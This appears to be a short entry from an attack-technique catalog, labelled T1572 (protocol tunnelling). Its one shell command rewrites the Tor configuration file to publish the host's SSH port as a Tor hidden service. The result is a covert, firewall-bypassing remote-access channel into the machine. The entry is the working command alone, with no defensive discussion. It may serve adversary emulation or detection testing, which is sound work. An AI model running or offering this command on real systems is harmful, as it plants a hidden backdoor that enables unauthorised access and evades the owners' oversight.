# technique: T1572
# location: linux.remote.tunnel
# source: /etc/tor/torrc
install -D -m 644 /dev/stdin /etc/tor/torrc <<< 'HiddenServiceDir /var/lib/tor/s
HiddenServicePort 22 127.0.0.1:22'
